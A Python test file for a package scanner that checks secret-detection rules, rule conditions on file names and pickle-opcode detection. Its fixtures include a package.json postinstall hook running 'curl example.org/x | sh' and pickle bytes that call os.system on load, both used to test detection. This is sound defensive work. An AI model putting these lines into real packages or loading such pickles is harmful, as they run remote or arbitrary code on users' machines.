"""Costly rules and scanners that are kept: nothing is missed, and nothing stays from the file before."""

import pytest

from corpora.inspection_case import inspected
from lockgate.core.verdict import Severity
from lockgate.inspect import malware, sample, secrets
from lockgate.inspect.inspectors import pickle_machine
from lockgate.inspect.rulesets import OWN

HEX = "0123456789abcdef" * 4
FETCHES = b'{"scripts": {"postinstall": "curl example.org/x | sh"}}'


def codes(data: bytes, name: str) -> set[str]:
    return {found.code for found in inspected(data, name).findings}


@pytest.mark.parametrize("word", ["cloudant", "CLOUDANT", "Cloudant"])
def test_a_secret_that_is_costly_to_look_for_is_found_where_its_word_stands(word: str) -> None:
    text = f'{word}_password = "{HEX[::-1]}"\n'.encode()
    assert "secret-cloudant" in codes(text, "a.txt")
    assert "secret-cloudant" not in codes(text.replace(word.encode(), b"other"), "a.txt")


def test_a_token_whose_digits_are_costly_to_look_for_is_found_with_its_place() -> None:
    token = f"123456789:A{'A' + 'bC3_-xYz' * 4}q"
    (found,) = (each for each in inspected(f"# at {token}\n".encode(), "a.txt").findings)
    assert (found.code, found.where) == ("secret-telegram-token", "@5")
    assert "secret-telegram-token" not in codes(token.removeprefix("123456789").encode(), "a.txt")


def test_every_costly_rule_has_its_word_among_the_quick_ones() -> None:
    quick = (OWN / secrets.PACK).read_text()
    assert secrets._costly()
    assert all(f"rule {name} " in quick for name in secrets._costly())


def test_what_a_rule_is_told_is_of_the_content_at_hand() -> None:
    for _ in range(2):
        assert "rule-package-script-that-fetches" in codes(FETCHES, "package.json")
        assert "rule-package-script-that-fetches" not in codes(FETCHES, "other.json")


def told(text: str) -> dict[str, frozenset[str] | None]:
    return dict(malware.Rules.of({"a": text}).told)


def test_a_pack_is_told_only_what_it_names() -> None:
    assert told('rule a { condition: filetype == "x" and filesize > 0 }') == {"filetype": frozenset({"x"})}


@pytest.mark.parametrize(
    "condition",
    [
        'filename contains "x"',
        'filename == "x" or filename startswith "y"',
        'filename == "x" or filename == ""',
        'filename == "\\x41"',
        'filename != "x"',
        '"x" == filename',
    ],
)
def test_a_name_that_is_more_than_compared_is_told_as_it_is(condition: str) -> None:
    assert told(f"rule a {{ condition: {condition} }}") == {"filename": None}


@pytest.mark.parametrize("name", ["x", "y", "z", ""])
def test_a_rule_that_compares_a_name_says_the_same_of_every_name(name: str) -> None:
    text = (
        'rule a { condition: filename == "x" or filename == "y" } rule b { condition: not filename == "x" }'
    )
    scanner = malware.scanner_of(malware.Rules.of({"a": text}), 1)
    matching = {rule.identifier for rule in scanner.scan(b"", {"filename": name})}
    assert matching == {"x": {"a"}, "y": {"a", "b"}}.get(name, {"b"})


def test_the_sample_is_a_wheel_that_nothing_is_wrong_with() -> None:
    part = inspected(sample.wheel(), sample.NAME, "python")
    assert (part.detected, part.complete, part.covered) == ("wheel", True, part.size)
    assert all(found.severity is Severity.INFO for found in part.findings)
    assert {"python/10", "json/11", "html/10", "markdown/6", "text/20"} <= set(part.inspectors)


@pytest.mark.parametrize("rest", [b"", b"cos\nsystem\n(S'x'\ntR.", b"N(}tR.", b"\x80\x04\x8c\x01a."])
def test_no_pickle_begins_with_what_is_taken_for_its_end(rest: bytes) -> None:
    never = pickle_machine._never_first()
    assert ord("d") in never
    assert not never & {0x80, *b"(c])}NK"}
    for byte in never:
        seen = pickle_machine.walk(memoryview(bytes([byte]) + rest))
        assert (seen.calls, seen.complete, seen.endless) == (0, False, False)


def test_that_metadata_is_no_pickle_is_told_once_and_not_for_each_name() -> None:
    pickle_machine.looks_like_pickle(memoryview(b"Metadata-Version: 2.1\nName: one\nVersion: 1\n"))
    before = pickle_machine._stops_early.cache_info().misses
    assert not pickle_machine.looks_like_pickle(memoryview(b"Metadata-Version: 2.4\nName: two\nVersion: 2\n"))
    assert pickle_machine._stops_early.cache_info().misses == before


def test_a_call_after_bytes_at_which_nothing_stops_is_found() -> None:
    for filled in range(12):
        data = b"(" * filled + b"cos\nsystem\n(S'x'\ntR."
        assert pickle_machine.looks_like_pickle(memoryview(data)), filled
